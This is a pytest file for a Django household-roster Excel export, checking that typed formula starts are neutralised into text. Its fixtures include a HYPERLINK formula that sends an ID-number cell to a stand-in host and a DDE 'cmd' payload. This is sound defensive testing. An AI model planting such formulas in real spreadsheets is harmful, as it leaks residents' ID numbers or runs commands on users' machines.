"""What a user typed reaches the exported roster as text: an address typed as a formula must not
become a live formula (a link that carries the ID numbers beside it away) in the clerk's Excel."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cases.xlsx_cells import neutralised, safe_row, text_cell

from .conftest import make_household, make_id_number

LINK = '=HYPERLINK("http://x.example/?"&C3,"点我")'
EXPORT = reverse("cases:household_export")
PHONE_COLUMN, ADDRESS_COLUMN, EMPLOYER_COLUMN, SIZE_COLUMN = 16, 17, 6, 12


def exported(client, user, query=None):
    client.force_login(user)
    response = client.get(EXPORT, query or {})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def data_rows(content):
    """The roster's rows of cells (below the title and the header), as openpyxl reads them back."""
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=3))


def sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_an_address_typed_as_a_formula_is_exported_as_text(client, township_reviewer, community, community_clerk):
    make_household(community, community_clerk, address=LINK, employer_name="@SUM(1+1)*cmd|' /C calc'!A0")

    content = exported(client, township_reviewer, {"unmask": "1"})

    address = data_rows(content)[0][ADDRESS_COLUMN - 1]
    employer = data_rows(content)[0][EMPLOYER_COLUMN - 1]
    assert address.data_type == "s" and address.value == "'" + LINK
    assert employer.data_type == "s" and employer.value.startswith("'@")
    assert "<f>" not in sheet_xml(content) and "HYPERLINK" in sheet_xml(content)


@pytest.mark.parametrize("typed", ["+1+1", "-1+1", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"])
def test_every_start_of_a_formula_is_neutralised(client, township_reviewer, community, community_clerk, typed):
    make_household(community, community_clerk, address=typed)

    cell = data_rows(exported(client, township_reviewer))[0][ADDRESS_COLUMN - 1]

    # (a bare carriage return is read back as a line feed, unless the writer escaped it: lxml does)
    assert cell.data_type == "s" and cell.value in ("'" + typed, "'" + typed.replace("\r", "\n"))


def test_an_error_code_or_a_control_character_stays_text_and_the_export_answers(client, township_reviewer, community, community_clerk):
    make_household(community, community_clerk, address="#N/A", employer_name="木器\x01厂")

    row = data_rows(exported(client, township_reviewer))[0]

    assert (row[ADDRESS_COLUMN - 1].data_type, row[ADDRESS_COLUMN - 1].value) == ("s", "#N/A")
    assert row[EMPLOYER_COLUMN - 1].value == "木器厂"


def test_plain_text_numbers_and_dates_keep_their_values_and_types(client, township_reviewer, community, community_clerk):
    make_household(community, community_clerk, address="弥勒县弥阳镇髯翁社区太平路12号", members=[
        ("李秀英", "spouse", make_id_number(serial=391, male=False)),
    ])

    row = data_rows(exported(client, township_reviewer))[0]

    assert row[ADDRESS_COLUMN - 1].value == "弥勒县弥阳镇髯翁社区太平路12号"
    assert (row[SIZE_COLUMN - 1].data_type, row[SIZE_COLUMN - 1].value) == ("n", 2)
    assert row[17].is_date


def test_the_phone_column_is_the_households_contact_or_else_the_heads(client, township_reviewer, community, community_clerk):
    make_household(community, community_clerk, head_name="无户电话", head_id=make_id_number(serial=392), phone="")
    make_household(community, community_clerk, head_name="有户电话", head_id=make_id_number(serial=393), phone="13900001111")

    rows = {row[1].value: row for row in data_rows(exported(client, township_reviewer))}
    unmasked = {row[1].value: row for row in data_rows(exported(client, township_reviewer, {"unmask": "1"}))}

    assert rows["无户电话"][PHONE_COLUMN - 1].value == "138****5678"
    assert rows["有户电话"][PHONE_COLUMN - 1].value == "139****1111"
    assert unmasked["无户电话"][PHONE_COLUMN - 1].value == "13812345678"


def test_the_cell_helpers_work_for_any_sheet_and_keep_non_text_values():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(safe_row(sheet, ["=1+1", 3, None, "张志强"]))
    sheet.append([text_cell(sheet, "=2+2")])

    loaded = load_workbook(_saved(workbook)).active

    assert [c.value for c in loaded[1]] == ["'=1+1", 3, None, "张志强"]
    assert loaded["A2"].data_type == "s" and loaded["A2"].value == "'=2+2"
    assert neutralised("张志强") == "张志强" and neutralised("=A1") == "'=A1"


def _saved(workbook):
    target = io.BytesIO()
    workbook.save(target)
    target.seek(0)
    return target
